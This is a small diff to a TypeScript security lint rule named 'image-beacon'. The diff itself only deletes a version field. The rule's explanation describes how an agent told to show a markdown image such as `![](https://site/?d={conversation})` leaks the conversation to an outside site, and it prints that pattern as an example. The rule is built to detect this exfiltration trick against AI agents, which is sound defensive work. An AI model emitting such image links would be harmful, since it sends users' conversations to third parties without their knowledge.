@@ -30,7 +30,6 @@ export const imageBeacon: Rule = {
   id: 'image-beacon',
   level: 'error',
   category: 'security',
-  since: '0.1.0',
   summary: 'an image whose address carries data away',
   why: 'A viewer fetches an image as soon as it shows it, without asking. An agent that is told to show `![](https://site/?d={conversation})` sends the conversation to that site. Badges, charts and maps with a placeholder are not reported.',
   valid: [
